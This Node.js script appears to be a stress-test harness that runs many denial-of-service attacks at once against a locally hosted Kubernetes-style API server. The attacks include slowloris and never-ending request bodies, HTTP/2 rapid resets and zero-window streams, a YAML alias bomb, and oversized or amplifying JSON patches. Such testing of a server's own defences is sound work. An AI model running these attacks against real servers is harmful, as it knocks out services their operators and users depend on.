// Attacks a hub from a process of its own, all ways at once, as a user without any rights:
//   node hub-attacker.mjs URL CA_FILE TOKEN
// Runs until it is stopped. Prints `ready` once every attack has begun and most have had an effect, and at the end what was sent and
// answered, as JSON.
import { readFileSync } from 'node:fs';
import { connect as http2Connect } from 'node:http2';
import { Agent, request } from 'node:https';
import { connect as tcpConnect } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';

const [url, caFile, token] = process.argv.slice(2);
const { port } = new URL(url);
const ca = readFileSync(caFile);
const authorization = `Bearer ${token}`;
const REVIEW = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const RULES = '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews';
const counts = {};
const count = (what) => (counts[what] = (counts[what] ?? 0) + 1);
let stopped = false;
process.on('SIGTERM', () => {
  stopped = true;
  console.log(JSON.stringify(counts));
  process.exit(0);
});
const pause = () => sleep(200);
const tls = (options = {}) => tlsConnect({ host: '127.0.0.1', port, ca, servername: 'localhost', ...options });

/** Connections that are made again whenever the hub ends them; `talk` gets the socket once it is open. */
async function keepOpen(what, open, talk) {
  while (!stopped) {
    await new Promise((resolve) => {
      const socket = open();
      socket.once('error', () => socket.destroy());
      socket.once('close', resolve);
      talk(socket, () => count(`${what}: opened`));
    });
    count(`${what}: ended`);
    await pause();
  }
}

const trickle = (socket, bytes, everyMs) => {
  const timer = setInterval(() => socket.write(bytes), everyMs);
  socket.once('close', () => clearInterval(timer));
};

/** Bodies that promise 3 MB and arrive a byte at a time. */
const endlessBody = () =>
  keepOpen('endless body', () => tls({ ALPNProtocols: ['http/1.1'] }), (socket, opened) =>
    socket.once('secureConnect', () => {
      opened();
      socket.resume();
      const head = `POST ${REVIEW} HTTP/1.1\r\nhost: hub\r\nauthorization: ${authorization}\r\ncontent-type: application/json\r\n`;
      socket.write(`${head}content-length: 3000000\r\n\r\n{`);
      trickle(socket, ' ', 1000);
    }),
  );

/** The same over HTTP/2: a hundred streams of one connection. */
async function endlessStreams() {
  while (!stopped) {
    const session = http2Connect(url, { ca, servername: 'localhost' });
    session.on('error', () => session.destroy());
    for (let at = 0; at < 100 && !session.destroyed; at += 1) {
      const stream = session.request({ ':method': 'POST', ':path': REVIEW, authorization, 'content-type': 'application/json' });
      stream.on('error', () => count('endless stream: ended'));
      stream.on('response', () => count('endless stream: answered'));
      stream.resume();
      stream.write('{');
    }
    await new Promise((resolve) => session.once('close', resolve).setTimeout(20_000, () => session.destroy()));
    await pause();
  }
}

/** Headers that never end. */
const slowHeaders = () =>
  keepOpen('slow headers', () => tls({ ALPNProtocols: ['http/1.1'] }), (socket, opened) =>
    socket.once('secureConnect', () => {
      opened();
      socket.write('GET /readyz HTTP/1.1\r\nhost: hub\r\nx-a: ');
      trickle(socket, 'a', 1000);
    }),
  );

/** TCP connections that never begin a handshake. */
const noHandshake = () =>
  keepOpen('no handshake', () => tcpConnect({ host: '127.0.0.1', port }), (socket, opened) =>
    socket.once('connect', () => {
      opened();
      socket.resume();
    }),
  );

const agent = new Agent({ keepAlive: true, maxSockets: 64 });
function send(what, path, { type = 'application/json', method = 'POST', body = '', bearer = token } = {}) {
  return new Promise((resolve) => {
    const headers = { authorization: `Bearer ${bearer}`, 'content-type': type, 'content-length': Buffer.byteLength(body) };
    const sent = request(`${url}${path}`, { method, ca, agent, headers, servername: 'localhost' }, (response) => {
      count(`${what}: ${response.statusCode}`);
      response.on('error', resolve).on('end', resolve).resume();
    });
    sent.on('error', () => (count(`${what}: cut off`), resolve()));
    sent.end(body);
  });
}
async function again(what, path, options) {
  while (!stopped) {
    await send(what, path, options);
    await sleep(5);
  }
}

const review = (fields) => JSON.stringify({ apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectAccessReview', ...fields });
const duplicates = `{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":${'{"a":'.repeat(50)}1${',"b":1,"b":2'.repeat(4000)}${'}'.repeat(50)}}`;
const manyKeys = review({ spec: Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`k${at}`, at])) });
const aliases = `a: &a [${'x, '.repeat(50)}]\n${Array.from({ length: 200 }, (_, at) => `b${at}: [${'*a, '.repeat(40)}]`).join('\n')}\n`;
const copies = JSON.stringify([
  { op: 'add', path: '/data', value: { a: 'x'.repeat(1000) } },
  ...Array.from({ length: 25 }, (_, at) => ({ op: 'copy', from: '/data', path: `/data/c${at}` })),
]);
const large = JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'a' }, data: { a: 'x'.repeat(2_900_000) } });
const manyManagers = JSON.stringify({
  metadata: { managedFields: Array.from({ length: 5000 }, (_, at) => ({ manager: `m${at}`, operation: 'Apply', apiVersion: 'v1', fieldsV1: { 'f:data': {} } })) },
});
const CONFIG_MAPS = '/api/v1/namespaces/default/configmaps';

/** Answers that nobody reads: HTTP/2 with a closed window. */
async function unreadAnswers() {
  while (!stopped) {
    const session = http2Connect(url, { ca, servername: 'localhost', settings: { initialWindowSize: 0 } });
    session.on('error', () => session.destroy());
    for (let at = 0; at < 100 && !session.destroyed; at += 1)
      session
        .request({ ':path': '/openapi/v3/apis/apps/v1', authorization })
        .on('error', () => count('unread answer: ended'))
        .on('response', () => count('unread answer: begun'));
    await new Promise((resolve) => session.once('close', resolve).setTimeout(60_000, () => session.destroy()));
    await pause();
  }
}

/** Streams that are opened and reset at once. */
async function rapidResets() {
  while (!stopped) {
    const session = http2Connect(url, { ca, servername: 'localhost' });
    session.on('error', () => session.destroy());
    let open = true;
    session.once('close', () => (open = false));
    while (open && !stopped) {
      for (let at = 0; at < 20 && !session.destroyed; at += 1) {
        const stream = session.request({ ':path': '/version', authorization });
        stream.on('error', () => undefined);
        stream.close(8);
        count('reset stream');
      }
      await sleep(20);
    }
    await pause();
  }
}

const times = (many, start) => Array.from({ length: many }, () => void start());
times(900, endlessBody);
times(9, endlessStreams);
times(500, slowHeaders);
times(300, noHandshake);
times(3, unreadAnswers);
times(2, rapidResets);
times(4, () => again('duplicates', `${REVIEW}?fieldValidation=Strict`, { body: duplicates }));
times(4, () => again('many keys', `${REVIEW}?fieldValidation=Strict`, { body: manyKeys }));
times(4, () => again('aliases', REVIEW, { type: 'application/yaml', body: aliases }));
times(4, () => again('rules review', RULES, { body: '{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectRulesReview","spec":{"namespace":"default"}}' }));
times(4, () => again('copies', `${CONFIG_MAPS}/kube-root-ca.crt`, { method: 'PATCH', type: 'application/json-patch+json', body: copies }));
times(4, () => again('many managers', `${CONFIG_MAPS}/kube-root-ca.crt`, { method: 'PATCH', type: 'application/merge-patch+json', body: manyManagers }));
times(4, () => again('large', CONFIG_MAPS, { body: large }));
times(8, () => again('wrong token', '/api', { method: 'GET', bearer: 'x'.repeat(43) }));
times(16, () => again('discovery', '/apis', { method: 'GET' }));
await sleep(3000);
// A busy hub lets some attackers wait for their share before it answers them at all.
while (Object.keys(counts).length <= 10) await sleep(100);
console.log('ready');
